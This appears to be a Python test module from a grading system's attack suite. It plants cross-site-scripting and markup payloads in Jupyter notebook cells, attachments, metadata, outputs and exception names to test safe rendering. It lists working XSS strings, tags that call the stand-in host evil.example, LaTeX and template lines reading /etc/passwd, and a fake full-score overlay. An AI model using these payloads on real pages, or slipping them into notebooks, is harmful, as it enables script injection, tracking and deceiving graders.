"""Attacks on whoever reads the result: markup and scripts in everything that is shown."""

import nbformat

from tests.grader.attacks.kinds import Attack, at_once

ELSEWHERE = "evil.example"  # no page of ours may ask this host for anything

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "![picture](http://evil.example/pixel.png)",
    "[click](javascript:alert(1)) <a href=' &#106;avascript:alert(1)'>here</a>",
    "<svg onload=alert(1)><script>alert(1)</script><use href='http://evil.example/#a'/></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/a.css'>",
    "<style>body { display: none; background: url(http://evil.example/a) }</style>",
    "<iframe src='http://evil.example'></iframe><object data='http://evil.example'></object>",
    "<form action='http://evil.example'><input name=q autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details></pre></div></body></html><script>alert(1)//",
    "--><script>alert(1)</script><!-- ]]><script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$ $\\unicode{<img src=x onerror=alert(1)>}$",
    "$$\\input{/etc/passwd} \\require{html} \\style{background:url(http://evil.example/)}{x}$$",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    '<div style="position:fixed;inset:0;background:white">Score: 10 / 10</div>',
]

_TYPES = [
    "text/html",
    "text/markdown",
    "text/latex",
    "image/svg+xml",
    "application/javascript",
    "application/json",
    "text/plain",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.plotly.v1+json",
    "image/png",
    'text/html"><script>alert(1)</script>',
]

RICH_OUTPUT = f"""\
from IPython.display import display
markup = {MARKUP!r}
for kind in {_TYPES!r}:
    for text in markup: display({{kind: text}}, raw=True, metadata={{kind: {{"isolated": True}}}})
print(*markup, sep="\\n")"""

RICH_ERROR = f"""\
markup = {MARKUP!r}
name = "<script>alert(1)</script>"
Odd = type(name, (Exception,), {{"__module__": name, "__qualname__": name}})
def softmax(x): raise Odd("".join(markup))
softmax.__name__ = softmax.__qualname__ = name
softmax.__code__ = softmax.__code__.replace(co_name=name, co_filename=name)
def mse_grad(w, X, y): raise ValueError(markup[2])
def train_mlp(*a, **k): return markup, {{name: markup}}"""


def _as_markdown(notebook):
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in MARKUP]
    notebook.cells += [nbformat.v4.new_raw_cell(text) for text in MARKUP]
    return notebook


def _in_attachments(notebook):
    picture = nbformat.v4.new_markdown_cell("![](attachment:a.svg)")
    picture.attachments = {"a.svg": {"image/svg+xml": MARKUP[6], "text/html": MARKUP[0]}}
    notebook.cells.append(picture)
    notebook.metadata = {"title": MARKUP[0], "authors": [{"name": MARKUP[2]}], "css": MARKUP[9]}
    return notebook


def _in_outputs(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                nbformat.v4.new_output("display_data", {"text/html": text}) for text in MARKUP
            ]
    return notebook


ATTACKS = [
    Attack("markdown_markup", "inject", "markup in texts", change=_as_markdown),
    Attack("attachment_markup", "inject", "markup in attachments and metadata",
           change=_in_attachments),
    Attack("saved_outputs", "inject", "markup in outputs that came with the file",
           change=_in_outputs),
    Attack("rich_output", "inject", "markup in outputs of all types", at_once(RICH_OUTPUT)),
    Attack("rich_error", "inject", "markup in errors and names",
           {"softmax": RICH_ERROR, "mse_grad": "pass", "train_mlp": "pass"}),
    Attack("comment_markup", "inject", "markup in code",
           at_once("\n".join(f"# {text}" for text in MARKUP))),
]  # fmt: skip
